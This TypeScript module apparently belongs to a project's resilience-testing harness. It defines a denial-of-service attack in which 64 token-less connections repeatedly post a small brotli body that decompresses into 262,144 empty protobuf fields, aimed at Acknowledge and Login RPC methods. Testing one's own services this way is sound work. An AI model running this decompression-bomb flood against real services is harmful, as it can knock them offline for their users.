import { brotliCompressSync } from "node:zlib";
import { AuthService } from "#gen/lucky/auth/v1/auth_pb.js";
import { MessageService } from "#gen/lucky/message/v1/message_pb.js";
import type { Attack } from "../target/attack.ts";
import { inParallel } from "../target/loops.ts";
import { keepPosting } from "../target/posts.ts";

const CONNECTIONS = 64;
/** The largest body that a public service reads. */
const DECODED_BYTES = 512 * 1024;
/** Field 1 with an empty value. */
const EMPTY_FIELD = Buffer.of(0x0a, 0);

/** A method for users and a public one. */
const METHODS = [`${MessageService.typeName}/Acknowledge`, `${AuthService.typeName}/Login`];

export const emptyFields: Attack = {
  name: "empty-fields",
  summary: `${CONNECTIONS} connections without a token send a few bytes of brotli: 262,144 empty fields`,
  prepare: (target) => {
    const request = brotliCompressSync(Buffer.alloc(DECODED_BYTES, EMPTY_FIELD));
    return (signal) => {
      target.tally.add("bytes_of_a_body", request.length);
      return inParallel(CONNECTIONS, (nth) =>
        keepPosting(target, signal, {
          method: METHODS[nth % METHODS.length]!,
          request,
          headers: { "Content-Encoding": "br" },
        }),
      );
    };
  },
};
